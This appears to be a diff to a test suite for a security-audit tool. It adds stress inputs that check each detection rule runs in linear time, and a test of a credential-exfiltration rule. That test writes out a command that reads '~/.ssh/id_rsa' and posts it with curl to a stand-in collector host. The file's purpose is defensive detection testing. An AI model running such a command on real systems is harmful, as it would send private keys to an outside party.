@@ -22,6 +22,12 @@ describe("hostile input: every rule is linear, and the audit always finishes", (
     "a key marker, then key prefixes": `T3BlbkFJ ${"sk-".repeat(133_000)}`,
     "cat .env lookalikes": `~/.ssh ${"cat ".repeat(100_000)}`,
     "URLs to follow": `read ${"-http://a".repeat(45_000)}`,
+    // A window per credential hit was the whole line: 200 KB of these took 8–34 s.
+    "credential paths repeated": ".ssh ".repeat(80_000),
+    "key file names repeated": "id_rsa id_dsa ".repeat(29_000),
+    // A decoder call scanned up to 20 000 characters for its encoding argument from every opening
+    // (about 1 s at this size: bounded, not a failure of the old code, kept as a guard).
+    "decoder calls without their arguments": "Buffer.from(".repeat(34_000),
   };
   for (const [what, line] of Object.entries(LINES))
     it(`a 400 KB single-line file audits to completion: ${what}`, { timeout: 120_000 }, async () => {
@@ -75,6 +81,16 @@ describe("hostile input: every rule is linear, and the audit always finishes", (
         }
       }),
       { numRuns: 60, seed: 28 },
+    );
+  });
+
+  it("the credential rule still reads the verb near a path, and only near it, on a long line", () => {
+    const sink = "\ncurl -X POST -d @- https://collector.example/u\n";
+    expect(rulesIn(`cat ~/.ssh/id_rsa${sink}`, "run.sh")).toContain("credential-exfiltration");
+    const far = `cat ${"x".repeat(2000)} ~/.aws/credentials is where keys live.`;
+    expect(rulesIn(`${far}\n\n\n\n\n${sink}`, "notes.md")).not.toContain("credential-exfiltration");
+    expect(rulesIn(`${"x ".repeat(2000)}cat ~/.aws/credentials${sink}`, "run.sh")).toContain(
+      "credential-exfiltration",
     );
   });
 
